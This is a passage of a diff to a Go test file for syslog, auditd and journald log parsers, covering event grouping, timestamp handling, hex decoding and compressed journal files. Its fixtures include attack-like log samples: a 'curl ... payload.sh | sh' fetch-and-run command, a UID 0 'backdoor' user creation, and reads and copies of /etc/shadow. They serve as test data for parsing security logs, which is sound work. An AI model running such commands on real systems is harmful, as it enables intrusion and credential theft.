@@ -1,12 +1,22 @@
 package parser
 
 import (
+	"bytes"
+	"compress/gzip"
+	"context"
+	"encoding/binary"
+	"errors"
 	"fmt"
+	"math"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/klauspost/compress/zstd"
+	"github.com/ulikunitz/xz"
 )
 
 func TestNewParser(t *testing.T) {
@@ -66,7 +76,14 @@ Jan  1 10:31:22 server1 sudo: user : TTY=pts/0 ; PWD=/home/user ; USER=root ; CO
 		t.Fatalf("Failed to create test file: %v", err)
 	}
 
+	// The year is inferred from the file's mtime
+	modTime := time.Date(2025, time.March, 1, 0, 0, 0, 0, time.UTC)
+	if err := os.Chtimes(testFile, modTime, modTime); err != nil {
+		t.Fatalf("Failed to set mtime: %v", err)
+	}
+
 	parser := NewSyslogParser(testFile)
+	parser.SetOptions(Options{Location: time.UTC})
 	entries, err := parser.Parse()
 	if err != nil {
 		t.Fatalf("Parse() error = %v", err)
@@ -92,8 +109,7 @@ Jan  1 10:31:22 server1 sudo: user : TTY=pts/0 ; PWD=/home/user ; USER=root ; CO
 	}
 
 	// Test timestamp format (should be ISO 8601)
-	expectedYear := time.Now().Year()
-	expectedTimestamp := fmt.Sprintf("%d-01-01T10:30:15.000", expectedYear)
+	expectedTimestamp := "2025-01-01T10:30:15.000"
 	if firstEntry.Timestamp != expectedTimestamp {
 		t.Errorf("Expected timestamp '%s', got '%s'", expectedTimestamp, firstEntry.Timestamp)
 	}
@@ -164,14 +180,17 @@ func TestAuditdParser_Parse(t *testing.T) {
 
 	// Test first entry
 	firstEntry := entries[0]
-	if firstEntry.Hostname != "localhost" {
-		t.Errorf("Expected hostname 'localhost', got '%s'", firstEntry.Hostname)
+	if firstEntry.Hostname != "" {
+		t.Errorf("Expected no hostname, got '%s'", firstEntry.Hostname)
 	}
 	if firstEntry.Program != "auditd" {
 		t.Errorf("Expected program 'auditd', got '%s'", firstEntry.Program)
 	}
-	if firstEntry.PID != "456" {
-		t.Errorf("Expected PID '456', got '%s'", firstEntry.PID)
+	if firstEntry.PID != "5678" {
+		t.Errorf("Expected PID '5678', got '%s'", firstEntry.PID)
+	}
+	if firstEntry.Fields["serial"] != "456" {
+		t.Errorf("Expected serial '456', got '%s'", firstEntry.Fields["serial"])
 	}
 	if firstEntry.Service != "auditd" {
 		t.Errorf("Expected service 'auditd', got '%s'", firstEntry.Service)
@@ -186,6 +205,225 @@ func TestAuditdParser_Parse(t *testing.T) {
 	}
 }
 
+func TestAuditdParser_Events(t *testing.T) {
+	// Two interleaved events, one with its CWD record out of order, and a
+	// standalone record that never gets an EOE
+	input := strings.Join([]string{
+		`type=SYSCALL msg=audit(1700000000.100:10): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 items=2 ppid=1 pid=200 uid=0 comm="cp" exe="/usr/bin/cp" key="exec"`,
+		`type=EXECVE msg=audit(1700000000.100:10): argc=3 a0="cp" a1="/etc/shadow" a2="/tmp/x"`,
+		`type=SYSCALL msg=audit(1700000000.200:11): arch=c000003e syscall=2 success=yes exit=3 a0=7ff1 items=1 ppid=1 pid=300 comm="cat" exe="/usr/bin/cat"`,
+		`type=PATH msg=audit(1700000000.100:10): item=0 name="/usr/bin/cp" inode=1 nametype=NORMAL`,
+		`type=PATH msg=audit(1700000000.100:10): item=1 name="/lib64/ld-linux-x86-64.so.2" inode=2 nametype=NORMAL`,
+		`type=PATH msg=audit(1700000000.200:11): item=0 name="/etc/passwd" inode=3 nametype=NORMAL`,
+		`type=EOE msg=audit(1700000000.200:11): `,
+		`type=CWD msg=audit(1700000000.100:10): cwd="/root"`,
+		`type=EOE msg=audit(1700000000.100:10): `,
+		`type=USER_LOGIN msg=audit(1700000001.000:12): pid=400 uid=0 res=success`,
+	}, "\n")
+
+	out := make(chan LogEntry, 10)
+	if err := NewAuditdParser("").StreamReader(context.Background(), strings.NewReader(input), out); err != nil {
+		t.Fatalf("StreamReader() error = %v", err)
+	}
+	close(out)
+
+	var entries []LogEntry
+	for entry := range out {
+		entries = append(entries, entry)
+	}
+	if len(entries) != 3 {
+		t.Fatalf("Expected 3 events, got %d", len(entries))
+	}
+
+	// Events keep the order they started in
+	exec, cat, login := entries[0], entries[1], entries[2]
+	expected := map[string]string{
+		"serial":        "10",
+		"syscall":       "execve",
+		"exe":           "/usr/bin/cp",
+		"a1":            "/etc/shadow",
+		"SYSCALL.a1":    "55d2",
+		"EXECVE.a1":     "/etc/shadow",
+		"PATH[0].name":  "/usr/bin/cp",
+		"PATH[1].name":  "/lib64/ld-linux-x86-64.so.2",
+		"name":          "/usr/bin/cp\n/lib64/ld-linux-x86-64.so.2",
+		"cwd":           "/root",
+		"CWD.cwd":       "/root",
+		"type":          "SYSCALL\nEXECVE\nPATH\nPATH\nCWD",
+		"PATH[1].inode": "2",
+	}
+	for field, value := range expected {
+		if exec.Fields[field] != value {
+			t.Errorf("Field %s = %q, expected %q", field, exec.Fields[field], value)
+		}
+	}
+	if exec.PID != "200" || exec.Timestamp != "2023-11-14T22:13:20.100" {
+		t.Errorf("Unexpected PID %q or timestamp %q", exec.PID, exec.Timestamp)
+	}
+
+	if cat.Fields["serial"] != "11" || cat.Fields["name"] != "/etc/passwd" || cat.PID != "300" {
+		t.Errorf("Unexpected second event: %v", cat.Fields)
+	}
+	if login.Fields["type"] != "USER_LOGIN" || login.Fields["res"] != "success" || login.PID != "400" {
+		t.Errorf("Unexpected standalone event: %v", login.Fields)
+	}
+}
+
+func TestAuditdParser_StreamResume(t *testing.T) {
+	// An event split across two runs, and a standalone record at the end
+	parts := []string{
+		`type=SYSCALL msg=audit(1700000000.100:10): arch=c000003e syscall=59 success=yes exit=0 items=1 ppid=1 pid=200 comm="cp" exe="/usr/bin/cp"` + "\n" +
+			`type=EXECVE msg=audit(1700000000.100:10): argc=2 a0="cp" a1="/etc/shadow"` + "\n",
+		`type=PATH msg=audit(1700000000.100:10): item=0 name="/usr/bin/cp" inode=1 nametype=NORMAL` + "\n" +
+			`type=EOE msg=audit(1700000000.100:10): ` + "\n" +
+			`type=USER_LOGIN msg=audit(1700000001.000:12): pid=400 uid=0 res=success` + "\n",
+	}
+
+	tests := []struct {
+		name   string
+		input  string
+		hold   bool
+		events []string
+		held   int
+	}{
+		{"first part", parts[0], true, nil, 2},
+		{"second part", parts[1], true, []string{"SYSCALL\nEXECVE\nPATH"}, 1},
+		{"rotated", "", false, []string{"USER_LOGIN"}, 0},
+	}
+
+	var held []string
+	for _, tt := range tests {
+		out := make(chan LogEntry, 10)
+		var err error
+		held, err = NewAuditdParser("").StreamResume(context.Background(), strings.NewReader(tt.input), held, tt.hold, out)
+		if err != nil {
+			t.Fatalf("%s: StreamResume() error = %v", tt.name, err)
+		}
+		close(out)
+
+		var events []string
+		for entry := range out {
+			events = append(events, entry.Fields["type"])
+		}
+		if strings.Join(events, "|") != strings.Join(tt.events, "|") {
+			t.Errorf("%s: got events %q, expected %q", tt.name, events, tt.events)
+		}
+		if len(held) != tt.held {
+			t.Errorf("%s: held %q, expected %d lines", tt.name, held, tt.held)
+		}
+	}
+}
+
+func TestAuditdParser_Decode(t *testing.T) {
+	input := strings.Join([]string{
+		// Raw records with hex-encoded values and enriched fields
+		`type=SYSCALL msg=audit(1700000100.000:20): arch=c00000b7 syscall=221 success=yes exit=0 a0=1 ppid=1 pid=500 auid=4294967295 uid=0 gid=0 comm="curl" exe="/usr/bin/curl" key=6578656301726F6F74` + "\x1d" + `ARCH=aarch64 SYSCALL=execve AUID="unset" UID="alice"`,
+		`type=EXECVE msg=audit(1700000100.000:20): argc=3 a0="curl" a1=2D6F202F746D702F612062 a2_len=20 a2[0]=68747470733A2F2F a2[1]=6578616D706C652E636F6D2F`,
+		`type=SOCKADDR msg=audit(1700000100.000:20): saddr=02000050C0A800010000000000000000`,
+		`type=PROCTITLE msg=audit(1700000100.000:20): proctitle=6375726C002D6F`,
+		`type=EOE msg=audit(1700000100.000:20): `,
+		`type=USER_LOGIN msg=audit(1700000200.000:21): pid=600 uid=0 auid=1000 ses=3 msg='op=login id=1000 exe="/usr/sbin/sshd" hostname=10.0.0.5 addr=10.0.0.5 terminal=ssh res=failed'`,
+		`type=SOCKADDR msg=audit(1700000300.000:22): saddr=0A000016000000000000000000000000000000000000000100000000`,
+		`type=SOCKADDR msg=audit(1700000300.000:23): saddr=01002F6465762F6C6F67`,
+		// ausearch -i output
+		`----`,
+		`type=PROCTITLE msg=audit(11/14/2023 22:15:00.250:30) : proctitle=cat /etc/shadow`,
+		`type=SOCKADDR msg=audit(11/14/2023 22:15:00.250:30) : saddr={ saddr_fam=inet6 laddr=::1 lport=22 }`,
+		`type=SYSCALL msg=audit(11/14/2023 22:15:00.250:30) : arch=x86_64 syscall=openat success=yes exit=3 a0=AT_FDCWD pid=700 auid=alice uid=root comm=cat exe=/usr/bin/cat`,
+	}, "\n")
+
+	parser := NewAuditdParser("")
+	parser.SetOptions(Options{Location: time.UTC})
+	out := make(chan LogEntry, 10)
+	if err := parser.StreamReader(context.Background(), strings.NewReader(input), out); err != nil {
+		t.Fatalf("StreamReader() error = %v", err)
+	}
+	close(out)
+
+	events := make(map[string]LogEntry)
+	for entry := range out {
+		events[entry.Fields["serial"]] = entry
+	}
+	if len(events) != 5 {
+		t.Fatalf("Expected 5 events, got %d", len(events))
+	}
+
+	tests := []struct {
+		serial string
+		field  string
+		want   string
+	}{
+		{"20", "syscall", "execve"},
+		{"20", "key", "exec\nroot"},
+		{"20", "UID", "alice"},
+		{"20", "AUID", "unset"},
+		{"20", "GID", "root"},
+		{"20", "a1", "-o /tmp/a b"},
+		{"20", "a2", "https://example.com/"},
+		{"20", "SYSCALL.a0", "1"},
+		{"20", "cmdline", "curl -o /tmp/a b https://example.com/"},
+		{"20", "proctitle", "curl -o"},
+		{"20", "saddr_fam", "inet"},
+		{"20", "laddr", "192.168.0.1"},
+		{"20", "lport", "80"},
+		{"21", "op", "login"},
+		{"21", "exe", "/usr/sbin/sshd"},
+		{"21", "res", "failed"},
+		{"21", "UID", "root"},
+		{"22", "laddr", "::1"},
+		{"22", "lport", "22"},
+		{"23", "saddr_fam", "local"},
+		{"23", "path", "/dev/log"},
+		{"30", "proctitle", "cat /etc/shadow"},
+		{"30", "cmdline", "cat /etc/shadow"},
+		{"30", "syscall", "openat"},
+		{"30", "exe", "/usr/bin/cat"},
+		{"30", "laddr", "::1"},
+		{"30", "uid", "root"},
+	}
+	for _, tt := range tests {
+		if got := events[tt.serial].Fields[tt.field]; got != tt.want {
+			t.Errorf("Event %s field %s = %q, want %q", tt.serial, tt.field, got, tt.want)
+		}
+	}
+
+	if got := events["30"].Timestamp; got != "2023-11-14T22:15:00.250" {
+		t.Errorf("Interpreted timestamp = %q", got)
+	}
+}
+
+func TestAuditdParser_Node(t *testing.T) {
+	// Forwarded logs from two hosts reuse the same serial
+	input := strings.Join([]string{
+		`node=web01 type=SYSCALL msg=audit(1700000000.100:10): syscall=59 pid=1 exe="/usr/bin/id"`,
+		`node=db01 type=SYSCALL msg=audit(1700000000.100:10): syscall=59 pid=2 exe="/usr/bin/ls"`,
+		`node=web01 type=EOE msg=audit(1700000000.100:10): `,
+		`type=SYSCALL msg=audit(1700000000.200:11): syscall=59 pid=3 exe="/usr/bin/w"`,
+	}, "\n")
+
+	parser := NewAuditdParser("")
+	parser.SetOptions(Options{Host: "collector"})
+	out := make(chan LogEntry, 10)
+	if err := parser.StreamReader(context.Background(), strings.NewReader(input), out); err != nil {
+		t.Fatalf("StreamReader() error = %v", err)
+	}
+	close(out)
+
+	hosts := make(map[string]string)
+	for entry := range out {
+		hosts[entry.PID] = entry.Hostname
+	}
+	expected := map[string]string{"1": "web01", "2": "db01", "3": "collector"}
+	if len(hosts) != len(expected) {
+		t.Fatalf("Expected %d events, got %v", len(expected), hosts)
+	}
+	for pid, host := range expected {
+		if hosts[pid] != host {
+			t.Errorf("Event of pid %s from %q, expected %q", pid, hosts[pid], host)
+		}
+	}
+}
+
 func TestParser_EmptyFile(t *testing.T) {
 	// Create an empty test file
 	tmpDir := t.TempDir()
@@ -215,6 +453,825 @@ func TestParser_NonExistentFile(t *testing.T) {
 	}
 }
 
+func TestSyslogParser_StreamReader(t *testing.T) {
+	longMessage := strings.Repeat("x", 200*1024)
+	input := "Jan  1 10:30:15 server1 app[1]: first\n" +
+		"  continued on the next line\n" +
+		"Jan  1 10:30:16 server1 app[1]: " + longMessage + "\n"
+
+	out := make(chan LogEntry, 10)
+	if err := NewSyslogParser("").StreamReader(context.Background(), strings.NewReader(input), out); err != nil {
+		t.Fatalf("StreamReader() error = %v", err)
+	}
+	close(out)
+
+	var entries []LogEntry
+	for entry := range out {
+		entries = append(entries, entry)
+	}
+
+	if len(entries) != 2 {
+		t.Fatalf("Expected 2 entries, got %d", len(entries))
+	}
+	if entries[0].Message != "first   continued on the next line" {
+		t.Errorf("Expected continuation to be appended, got %q", entries[0].Message)
+	}
+	if entries[1].Message != longMessage {
+		t.Errorf("Expected a %d byte message, got %d bytes", len(longMessage), len(entries[1].Message))
+	}
+}
+
+func TestSyslogParser_ParseLine(t *testing.T) {
+	tests := []struct {
+		name       string
+		line       string
+		wantOK     bool
+		want       LogEntry
+		wantFields map[string]string
+	}{
+		{
+			name:   "RFC 5424 with structured data",
+			line:   `<165>1 2003-10-11T22:14:15.003-07:00 mymachine.example.com evntslog 42 ID47 [exampleSDID@32473 iut="3" eventSource="Application"][origin ip="192.0.2.1"] An application event`,
+			wantOK: true,
+			want: LogEntry{
+				Timestamp: "2003-10-12T05:14:15.003",
+				Hostname:  "mymachine.example.com",
+				Program:   "evntslog",
+				PID:       "42",
+				Message:   "An application event",
+			},
+			wantFields: map[string]string{
+				"priority":                      "165",
+				"facility":                      "local4",
+				"severity":                      "notice",
+				"version":                       "1",
+				"msgid":                         "ID47",
+				"exampleSDID@32473":             "",
+				"exampleSDID@32473.iut":         "3",
+				"exampleSDID@32473.eventSource": "Application",
+				"origin.ip":                     "192.0.2.1",
+			},
+		},
+		{
+			name:   "RFC 5424 with NIL values and BOM",
+			line:   "<34>1 2003-10-11T22:14:15Z - su - - - \ufeff'su root' failed",
+			wantOK: true,
+			want: LogEntry{
+				Timestamp: "2003-10-11T22:14:15.000",
+				Program:   "su",
+				Message:   "'su root' failed",
+			},
+			wantFields: map[string]string{"facility": "auth", "severity": "crit"},
+		},
+		{
+			name:   "RFC 5424 escaped parameter value",
+			line:   `<14>1 2025-01-01T10:00:00+00:00 host app 7 - [meta note="say \"hi\" \] \\ done"]`,
+			wantOK: true,
+			want: LogEntry{
+				Timestamp: "2025-01-01T10:00:00.000",
+				Hostname:  "host",
+				Program:   "app",
+				PID:       "7",
+			},
+			wantFields: map[string]string{"meta.note": `say "hi" ] \ done`},
+		},
+		{
+			name:   "BSD with PRI",
+			line:   "<38>Jan  1 10:30:15 server1 sshd[1234]: Failed password for root",
+			wantOK: true,
+			want: LogEntry{
+				Hostname: "server1",
+				Program:  "sshd",
+				PID:      "1234",
+				Message:  "Failed password for root",
+			},
+			wantFields: map[string]string{"priority": "38", "facility": "auth", "severity": "info"},
+		},
+		{
+			name:   "BSD without hostname",
+			line:   "<38>Jan  1 10:30:15 sshd[1234]: Failed password for root: invalid user",
+			wantOK: true,
+			want: LogEntry{
+				Program: "sshd",
+				PID:     "1234",
+				Message: "Failed password for root: invalid user",
+			},
+			wantFields: map[string]string{"priority": "38"},
+		},
+		{
+			name:   "BSD without hostname or pid",
+			line:   "<13>Jan  1 10:30:15 logger: hello",
+			wantOK: true,
+			want: LogEntry{
+				Program: "logger",
+				Message: "hello",
+			},
+		},
+		{
+			name:   "unterminated structured data",
+			line:   `<14>1 2025-01-01T10:00:00Z host app 7 - [meta note="open`,
+			wantOK: false,
+		},
+		{
+			name:   "continuation line",
+			line:   "  continued on the next line",
+			wantOK: false,
+		},
+	}
+
+	p := NewSyslogParser("")
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			entry, ok := p.ParseLine(tt.line)
+			if ok != tt.wantOK {
+				t.Fatalf("ParseLine() ok = %v, want %v", ok, tt.wantOK)
+			}
+			if !ok {
+				return
+			}
+
+			if tt.want.Timestamp != "" && entry.Timestamp != tt.want.Timestamp {
+				t.Errorf("Timestamp = %q, want %q", entry.Timestamp, tt.want.Timestamp)
+			}
+			if entry.Hostname != tt.want.Hostname || entry.Program != tt.want.Program || entry.PID != tt.want.PID {
+				t.Errorf("Got host %q program %q pid %q, want %q %q %q",
+					entry.Hostname, entry.Program, entry.PID, tt.want.Hostname, tt.want.Program, tt.want.PID)
+			}
+			if entry.Message != tt.want.Message {
+				t.Errorf("Message = %q, want %q", entry.Message, tt.want.Message)
+			}
+			if entry.Service != "syslog" {
+				t.Errorf("Service = %q, want syslog", entry.Service)
+			}
+			for key, want := range tt.wantFields {
+				if got, ok := entry.Fields[key]; !ok || got != want {
+					t.Errorf("Fields[%q] = %q, want %q", key, got, want)
+				}
+			}
+		})
+	}
+}
+
+func TestSyslogParser_Timestamps(t *testing.T) {
+	tests := []struct {
+		name  string
+		opts  Options
+		input string
+		want  []string
+	}{
+		{
+			name:  "December logs read in January",
+			opts:  Options{Location: time.UTC, Reference: time.Date(2026, time.January, 3, 0, 0, 0, 0, time.UTC)},
+			input: "Dec 30 23:59:58 host app: a\nDec 31 23:59:59 host app: b\n",
+			want:  []string{"2025-12-30T23:59:58.000", "2025-12-31T23:59:59.000"},
+		},
+		{
+			name:  "rollover into the reference year",
+			opts:  Options{Location: time.UTC, Reference: time.Date(2026, time.January, 3, 0, 0, 0, 0, time.UTC)},
+			input: "Dec 31 23:59:59 host app: a\nJan  1 00:00:01 host app: b\nJan  2 08:00:00 host app: c\n",
+			want:  []string{"2025-12-31T23:59:59.000", "2026-01-01T00:00:01.000", "2026-01-02T08:00:00.000"},
+		},
+		{
+			name:  "year override with rollover",
+			opts:  Options{Location: time.UTC, Year: 2019},
+			input: "Nov 30 12:00:00 host app: a\nDec  1 12:00:00 host app: b\nFeb  1 12:00:00 host app: c\n",
+			want:  []string{"2019-11-30T12:00:00.000", "2019-12-01T12:00:00.000", "2020-02-01T12:00:00.000"},
+		},
+		{
+			name:  "out of order across a month boundary",
+			opts:  Options{Location: time.UTC, Year: 2025},
+			input: "Mar  1 00:00:05 host app: a\nFeb 28 23:59:59 host app: b\nMar  1 00:00:06 host app: c\n",
+			want:  []string{"2025-03-01T00:00:05.000", "2025-02-28T23:59:59.000", "2025-03-01T00:00:06.000"},
+		},
+		{
+			name:  "timezone converted to UTC",
+			opts:  Options{Location: time.FixedZone("UTC+2", 2*60*60), Year: 2025},
+			input: "Jan  1 01:30:00 host app: a\n",
+			want:  []string{"2024-12-31T23:30:00.000"},
+		},
+		{
+			name:  "RFC 5424 offsets take precedence",
+			opts:  Options{Location: time.FixedZone("UTC+2", 2*60*60), Year: 2019},
+			input: "<14>1 2025-06-01T12:00:00-04:00 host app - - - a\n",
+			want:  []string{"2025-06-01T16:00:00.000"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			p := NewSyslogParser("")
+			p.SetOptions(tt.opts)
+
+			out := make(chan LogEntry, len(tt.want)+1)
+			if err := p.StreamReader(context.Background(), strings.NewReader(tt.input), out); err != nil {
+				t.Fatalf("StreamReader() error = %v", err)
+			}
+			close(out)
+
+			var got []string
+			for entry := range out {
+				got = append(got, entry.Timestamp)
+			}
+			if fmt.Sprint(got) != fmt.Sprint(tt.want) {
+				t.Errorf("Timestamps = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestJournaldParser_InvalidTimestamp(t *testing.T) {
+	input := "2025-13-01T10:30:15Z server1 sshd[1]: bad month\n"
+
+	out := make(chan LogEntry, 1)
+	if err := NewJournaldParser("").StreamReader(context.Background(), strings.NewReader(input), out); err != nil {
+		t.Fatalf("StreamReader() error = %v", err)
+	}
+	close(out)
+
+	entry := <-out
+	if !entry.InvalidTimestamp || !entry.Time.IsZero() {
+		t.Errorf("Expected a flagged entry with zero time, got %v at %v", entry.InvalidTimestamp, entry.Time)
+	}
+	if entry.Timestamp != "2025-13-01T10:30:15Z" {
+		t.Errorf("Expected the raw timestamp to be kept, got %q", entry.Timestamp)
+	}
+}
+
+func TestParser_TimeWindow(t *testing.T) {
+	input := "2025-01-01T09:59:59Z host app: before\n" +
+		"2025-01-01T10:00:00Z host app: start\n" +
+		"2025-01-01T11:00:00+01:00 host app: middle\n" +
+		"2025-01-01T12:00:00Z host app: end\n" +
+		"2025-01-01T12:00:01Z host app: after\n" +
+		"2025-02-30T10:00:00Z host app: invalid\n"
+
+	p := NewJournaldParser("")
+	p.SetOptions(Options{
+		Start: time.Date(2025, time.January, 1, 10, 0, 0, 0, time.UTC),
+		End:   time.Date(2025, time.January, 1, 12, 0, 0, 0, time.UTC),
+	})
+
+	out := make(chan LogEntry, 10)
+	if err := p.StreamReader(context.Background(), strings.NewReader(input), out); err != nil {
+		t.Fatalf("StreamReader() error = %v", err)
+	}
+	close(out)
+
+	var messages []string
+	for entry := range out {
+		messages = append(messages, entry.Message)
+	}
+
+	// Bounds are inclusive and entries that can't be placed are kept
+	want := []string{"start", "middle", "end", "invalid"}
+	if fmt.Sprint(messages) != fmt.Sprint(want) {
+		t.Errorf("Expected %v, got %v", want, messages)
+	}
+}
+
+func TestJournaldParser_JournalFiles(t *testing.T) {
+	tests := []struct {
+		name string
+		file string
+	}{
+		{name: "compact with zstd", file: "compact-zstd.journal"},
+		{name: "regular with xz and lz4", file: "regular-xz-lz4.journal"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			entries, err := NewJournaldParser(filepath.Join("testdata", "journal", tt.file)).Parse()
+			if err != nil {
+				t.Fatalf("Parse() error = %v", err)
+			}
+			if len(entries) != 12 {
+				t.Fatalf("Expected 12 entries, got %d", len(entries))
+			}
+
+			byProgram := make(map[string]LogEntry)
+			for i, entry := range entries {
+				if entry.Service != "journald" || entry.Hostname != "vm" {
+					t.Errorf("Entry %d: unexpected service %q or hostname %q", i, entry.Service, entry.Hostname)
+				}
+				if i > 0 && entry.Time.Before(entries[i-1].Time) {
+					t.Errorf("Entry %d is out of order", i)
+				}
+				if want := strconv.FormatInt(entry.Time.UnixMicro(), 10); entry.Fields["__REALTIME_TIMESTAMP"] != want {
+					t.Errorf("Entry %d: __REALTIME_TIMESTAMP = %q, want %q", i, entry.Fields["__REALTIME_TIMESTAMP"], want)
+				}
+				byProgram[entry.Program] = entry
+			}
+
+			sshd := byProgram["sshd"]
+			if sshd.Message != "Accepted publickey for admin from 198.51.100.7 port 51234 ssh2" || sshd.PID != sshd.Fields["_PID"] {
+				t.Errorf("Unexpected sshd entry: %q pid %q", sshd.Message, sshd.PID)
+			}
+			for _, field := range []string{"_COMM", "_EXE", "_CMDLINE", "_UID", "_BOOT_ID", "_TRANSPORT", "PRIORITY"} {
+				if sshd.Fields[field] == "" {
+					t.Errorf("Expected field %s to be set", field)
+				}
+			}
+
+			// Large fields are stored compressed
+			compressed := map[string]string{
+				"cron":    "curl -s http://198.51.100.9/payload.sh | sh " + strings.Repeat("# padding ", 80),
+				"sudo":    "admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=/usr/bin/bash -c " + strings.Repeat("echo ok; ", 40),
+				"useradd": "useradd[4242]: new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash " + strings.Repeat("from=/dev/pts/0 ", 20),
+			}
+			for program, want := range compressed {
+				if got := byProgram[program].Message; got != want {
+					t.Errorf("%s message = %q, want %q", program, got, want)
+				}
+			}
+
+			app := byProgram["app"]
+			if app.Message != "multi-line\nmessage" || app.Fields["TAG"] != "first\nsecond" {
+				t.Errorf("Expected binary-safe and repeated fields, got %q and TAG %q", app.Message, app.Fields["TAG"])
+			}
+		})
+	}
+}
+
+func TestJournaldParser_JournalDirectory(t *testing.T) {
+	dir := t.TempDir()
+	for _, name := range []string{"regular-xz-lz4.journal", "compact-zstd.journal"} {
+		data, err := os.ReadFile(filepath.Join("testdata", "journal", name))
+		if err != nil {
+			t.Fatalf("Failed to read sample journal: %v", err)
+		}
+		machineDir := filepath.Join(dir, "fed6b2924c424cf1b9a322f606b4de6d")
+		if err := os.MkdirAll(machineDir, 0755); err != nil {
+			t.Fatalf("Failed to create journal directory: %v", err)
+		}
+		if err := os.WriteFile(filepath.Join(machineDir, name), data, 0644); err != nil {
+			t.Fatalf("Failed to write journal: %v", err)
+		}
+	}
+
+	entries, err := NewJournaldParser(dir).Parse()
+	if err != nil {
+		t.Fatalf("Parse() error = %v", err)
+	}
+	if len(entries) != 24 {
+		t.Fatalf("Expected 24 entries, got %d", len(entries))
+	}
+
+	// Files are read in the order their entries were written
+	for i := 1; i < len(entries); i++ {
+		if entries[i].Time.Before(entries[i-1].Time) {
+			t.Fatalf("Entry %d is out of order", i)
+		}
+	}
+
+	// A journal~ file left by an unclean shutdown is skipped after the
+	// entries that could be read from it
+	sample, err := os.ReadFile(filepath.Join("testdata", "journal", "regular-xz-lz4.journal"))
+	if err != nil {
+		t.Fatalf("Failed to read sample journal: %v", err)
+	}
+	dirty := filepath.Join(dir, "fed6b2924c424cf1b9a322f606b4de6d", "system@0005f1c0a1b2c3d4-0123456789abcdef.journal~")
+	if err := os.WriteFile(dirty, sample[:len(sample)*3/4], 0644); err != nil {
+		t.Fatalf("Failed to write journal: %v", err)
+	}
+	withDirty, err := NewJournaldParser(dir).Parse()
+	if err != nil {
+		t.Fatalf("Parse() with a truncated journal~ file error = %v", err)
+	}
+	if len(withDirty) < len(entries) {
+		t.Errorf("Expected at least the %d entries of the intact files, got %d", len(entries), len(withDirty))
+	}
+	if err := os.Remove(dirty); err != nil {
+		t.Fatalf("Failed to remove journal: %v", err)
+	}
+
+	// A journal read from a plain reader is buffered
+	data, err := os.ReadFile(filepath.Join("testdata", "journal", "compact-zstd.journal"))
+	if err != nil {
+		t.Fatalf("Failed to read sample journal: %v", err)
+	}
+	out := make(chan LogEntry, 20)
+	if err := NewJournaldParser("").StreamReader(context.Background(), strings.NewReader(string(data)), out); err != nil {
+		t.Fatalf("StreamReader() error = %v", err)
+	}
+	close(out)
+	if len(out) != 12 {
+		t.Errorf("Expected 12 entries from StreamReader, got %d", len(out))
+	}
+
+	// A truncated journal is an error, not a panic
+	truncated := filepath.Join(dir, "truncated.journal")
+	if err := os.WriteFile(truncated, data[:len(data)/2], 0644); err != nil {
+		t.Fatalf("Failed to write journal: %v", err)
+	}
+	if _, err := NewJournaldParser(truncated).Parse(); err == nil {
+		t.Error("Expected an error for a truncated journal")
+	}
+}
+
+func TestJournalReader_Corrupt(t *testing.T) {
+	// object writes an object header of the given type and size at offset
+	object := func(buf []byte, offset int, objectType byte, size uint64) {
+		buf[offset] = objectType
+		binary.LittleEndian.PutUint64(buf[offset+8:], size)
+	}
+
+	t.Run("size overflowing the offset", func(t *testing.T) {
+		buf := make([]byte, 64)
+		object(buf, 16, journalObjectEntryArray, math.MaxUint64-8)
+		j := &journalReader{r: bytes.NewReader(buf), size: int64(len(buf))}
+		if _, _, err := j.readObject(16, journalObjectEntryArray); err == nil {
+			t.Error("Expected an error for an object size past the end of the file")
+		}
+		if _, _, err := j.readObject(math.MaxUint64-7, journalObjectEntryArray); err == nil {
+			t.Error("Expected an error for an offset past the end of the file")
+		}
+	})
+
+	t.Run("entry array pointing at itself", func(t *testing.T) {
+		buf := make([]byte, 48)
+		object(buf, 16, journalObjectEntryArray, 32)
+		binary.LittleEndian.PutUint64(buf[32:], 16)
+		j := &journalReader{r: bytes.NewReader(buf), size: int64(len(buf)), entryArrayOffset: 16, entries: 1}
+
+		done := make(chan error, 1)
+		go func() {
+			done <- j.stream(context.Background(), func(LogEntry) error { return nil })
+		}()
+		select {
+		case err := <-done:
+			if err == nil {
+				t.Error("Expected an error for a looping entry array chain")
+			}
+		case <-time.After(5 * time.Second):
+			t.Fatal("stream() didn't stop on a looping entry array chain")
+		}
+	})
+}
+
+func TestJournaldParser_JournalctlOutput(t *testing.T) {
+	for _, name := range []string{"journalctl.json", "journalctl.export"} {
+		t.Run(name, func(t *testing.T) {
+			entries, err := NewJournaldParser(filepath.Join("testdata", "journal", name)).Parse()
+			if err != nil {
+				t.Fatalf("Parse() error = %v", err)
+			}
+			if len(entries) != 12 {
+				t.Fatalf("Expected 12 entries, got %d", len(entries))
+			}
+
+			var tagged, multiline bool
+			for _, entry := range entries {
+				usec, err := strconv.ParseInt(entry.Fields["__REALTIME_TIMESTAMP"], 10, 64)
+				if err != nil || !entry.Time.Equal(time.UnixMicro(usec)) {
+					t.Errorf("Time = %v, want __REALTIME_TIMESTAMP %s", entry.Time, entry.Fields["__REALTIME_TIMESTAMP"])
+				}
+				if entry.Fields["__CURSOR"] == "" {
+					t.Error("Expected __CURSOR to be mapped into Fields")
+				}
+				if entry.Fields["TAG"] == "first\nsecond" {
+					tagged = true
+				}
+				if entry.Message == "multi-line\nmessage" {
+					multiline = true
+				}
+			}
+			if !tagged {
+				t.Error("Expected the repeated TAG field to keep both values")
+			}
+			if !multiline {
+				t.Error("Expected the binary-safe multi-line MESSAGE")
+			}
+		})
+	}
+
+	// Binary values are written as byte arrays in JSON
+	input := `{"__REALTIME_TIMESTAMP":"1700000000000000","MESSAGE":[104,105,10,0],"_PID":"42","N":["a",[98],null]}` + "\n"
+	out := make(chan LogEntry, 1)
+	if err := NewJournaldParser("").StreamReader(context.Background(), strings.NewReader(input), out); err != nil {
+		t.Fatalf("StreamReader() error = %v", err)
+	}
+	close(out)
+	entry := <-out
+	if entry.Message != "hi\n\x00" || entry.PID != "42" || entry.Fields["N"] != "a\nb" {
